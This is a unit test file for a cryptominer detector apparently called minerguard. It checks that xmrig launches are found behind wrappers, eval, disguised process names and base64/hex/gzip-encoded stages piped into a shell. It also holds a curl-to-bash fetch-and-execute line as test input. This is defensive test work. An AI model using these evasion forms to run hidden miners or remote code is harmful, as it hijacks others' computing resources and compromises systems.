"""Reading what a container runs (minerguard.domain.detection.shell) and miner options in data (.options)."""

from __future__ import annotations

import base64
import gzip
import shlex

import pytest

from minerguard.domain.detection.options import config_words, option_pairs
from minerguard.domain.detection.shell import (
    MAX_COMMANDS,
    MAX_DEPTH,
    MAX_PAYLOAD,
    MAX_SUBSTITUTED,
    expand,
    expand_k8s_vars,
    shell_programs,
)

pytestmark = pytest.mark.unit


def programs(*argv: str, env: dict[str, str] | None = None, files: dict[str, str] | None = None) -> list[str]:
    return [name for _, name in expand([("command", a) for a in argv], env or {}, files).programs]


@pytest.mark.parametrize(
    ("argv", "program"),
    [
        (["nohup", "nice", "-n", "19", "xmrig"], "xmrig"),
        (["timeout", "-s", "KILL", "0", "xmrig"], "xmrig"),
        (["env", "-i", "-u", "HOME", "A=B", "C=D", "xmrig"], "xmrig"),
        (["setsid", "-f", "exec", "-a", "kworker", "xmrig"], "xmrig"),
        (["sudo", "-E", "-u", "root", "-g", "wheel", "--", "xmrig"], "xmrig"),
        (["chroot", "/host", "xmrig"], "xmrig"),
        (["taskset", "-c", "0-3", "xmrig"], "xmrig"),
        (["taskset", "0x3", "xmrig"], "xmrig"),
        (["ionice", "-c", "3", "-n", "7", "xmrig"], "xmrig"),
        (["stdbuf", "-oL", "-e", "0", "xmrig"], "xmrig"),
        (["busybox", "nohup", "xmrig"], "xmrig"),
        (["xargs", "-n", "1", "-P", "4", "xmrig"], "xmrig"),
        (["/usr/bin/time", "-f", "%e", "command", "xmrig"], "xmrig"),
        (["tini", "--", "gosu", "nobody", "xmrig"], "xmrig"),
        (["A=1", "B=2", "xmrig"], "xmrig"),
    ],
)
def test_the_program_after_any_chain_of_wrappers(argv: list[str], program: str) -> None:
    assert programs(*argv)[-1] == program


@pytest.mark.parametrize(
    "script",
    [
        "a; b && xmrig",
        "a || xmrig",
        "a | xmrig",
        "a & xmrig &",
        "(cd /tmp; (xmrig))",
        "{ xmrig; }",
        "echo $(xmrig --version)",
        "echo `xmrig --version`",
        "eval 'nohup xmrig'",
        'eval "$(echo nohup xmrig)"',
        "if true; then xmrig; fi",
        "while :; do xmrig; done",
        "for i in 1 2; do xmrig; done",
        "cat <<EOF | sh\nxmrig\nEOF",
        "sh <<-'EOF'\n\txmrig\n\tEOF",
        "bash -o pipefail -ec 'xmrig'",
        "su -c 'xmrig' nobody",
        "env -S 'nohup xmrig'",
        "X=xm; Y=rig; $X$Y",
        "${BIN:-xmrig} -o x",
        "python3 -c \"import os; os.system('nohup xmrig &')\"",
        "echo 'unterminated; xmrig",
    ],
)
def test_every_shell_construct_is_read(script: str) -> None:
    assert "xmrig" in shell_programs(script)


def test_arguments_are_not_programs() -> None:
    assert shell_programs("pkill -f xmrig; rm -f /tmp/xmrig.json; echo xmrig > /dev/null") == ["pkill", "rm", "echo"]


def test_variables_come_from_the_env_and_the_script() -> None:
    found = expand(
        [("command", "sh"), ("command", "-c"), ("args", "export W=abc; exec svc -u $W -o ${POOL}")], {"POOL": "p:1"}
    )
    assert found.commands[-1].words == ("exec", "svc", "-u", "abc", "-o", "p:1")
    assert found.commands[-1].derived and found.commands[-1].where == "shell script in args"


@pytest.mark.parametrize(
    ("stage", "encode"),
    [
        ("echo {} | base64 -d | sh", lambda s: base64.b64encode(s.encode()).decode()),
        ("echo {} | base64 --decode | bash", lambda s: base64.b64encode(s.encode()).decode()),
        ("base64 -d <<< {} | sh", lambda s: base64.b64encode(s.encode()).decode()),
        ("printf %s {} | openssl base64 -d | sh", lambda s: base64.b64encode(s.encode()).decode()),
        ("echo {} | xxd -r -p | sh", lambda s: s.encode().hex()),
        ("sh -c \"$(printf '{}')\"", lambda s: "".join(f"\\x{b:02x}" for b in s.encode())),
        ("sh -c $'{}'", lambda s: "".join(f"\\x{b:02x}" for b in s.encode())),
        ("echo {} | rev | sh", lambda s: s[::-1]),
        ("echo {} | base64 -d | gunzip | sh", lambda s: base64.b64encode(gzip.compress(s.encode())).decode()),
    ],
)
def test_payloads_are_decoded_and_read(stage: str, encode: object) -> None:
    assert callable(encode)
    script = stage.format(encode("nohup xmrig -o pool:3333"))
    found = expand([("command", "sh"), ("command", "-c"), ("command", script)], {})
    assert "xmrig" in [name for _, name in found.programs]
    assert not found.undecodable


def test_undecodable_or_oversized_payloads_into_a_shell_are_reported() -> None:
    def undecodable(script: str) -> list[str]:
        return expand([("command", "sh"), ("command", "-c"), ("command", script)], {}).undecodable

    assert undecodable("echo !!notbase64!! | base64 -d | sh")
    assert undecodable("echo " + "QUJD" * (MAX_PAYLOAD // 4 + 1) + " | base64 -d | sh")
    assert undecodable("curl -s http://203.0.113.9/p | base64 -d | bash")
    assert undecodable('eval "$(echo %%% | base64 -d)"')
    assert not undecodable("echo !!notbase64!! | base64 -d > /tmp/file")  # not fed to a shell
    assert not expand(
        [("command", "sh"), ("command", "-c"), ("command", "echo x | base64 -d | sh")], {}, decode=False
    ).undecodable


def test_reading_is_bounded() -> None:
    deep = "xmrig"
    for _ in range(MAX_DEPTH + 3):
        deep = f"sh -c {shlex.quote(deep)}"
    found = expand([("command", "sh"), ("command", "-c"), ("command", deep)], {})
    assert found.truncated and "xmrig" not in [name for _, name in found.programs]
    many = expand([("command", "sh"), ("command", "-c"), ("command", "a;" * (MAX_COMMANDS + 10))], {})
    assert len(many.commands) <= MAX_COMMANDS and many.truncated
    nested = expand([("command", "sh"), ("command", "-c"), ("command", "$(" * 5000 + "x" + ")" * 5000)], {})
    assert nested.truncated


def test_kubernetes_var_expansion() -> None:
    env = {"BIN": "/usr/bin/xmrig", "A": "1"}
    argv = [("command", "$(BIN)"), ("args", "--x=$(A)$(MISSING)"), ("args", "$$(BIN)")]
    expanded = [("command", "/usr/bin/xmrig"), ("args", "--x=1$(MISSING)"), ("args", "$(BIN)")]
    assert expand_k8s_vars(argv, env) == (expanded, False)
    huge, cut = expand_k8s_vars([("args", "$(BIG)")] * 100, {"BIG": "x" * 60_000})
    assert cut and sum(len(item) for _, item in huge) <= MAX_SUBSTITUTED + 600


def test_option_pairs_in_every_spelling() -> None:
    pairs = list(option_pairs(["-ostratum+tcp://h:1", "-u", "W", "--pass=x", "--url", "h:2", "-k", "--tls"]))
    assert pairs == [("-o", "stratum+tcp://h:1"), ("-u", "W"), ("--pass", "x"), ("--url", "h:2")]


def test_miner_configs_read_as_options() -> None:
    config = (
        '{"donate-level": 1, "cpu": {"max-threads-hint": 95}, "pools": [{"url": "h:3333", "user": "W", "tls": true}]}'
    )
    assert config_words(config) == [
        "--donate-level=1",
        "--max-threads-hint=95",
        "--url=h:3333",
        "--user=W",
        "--tls=true",
    ]
    commented = '{\n  "algo": "cryptonight",  // cryptonight or cryptonight-lite\n  "av": 0,\n}'
    assert config_words(commented) == ["--algo=cryptonight", "--av=0"]
    assert config_words("no config here") == [] and config_words('"a": 1') == []
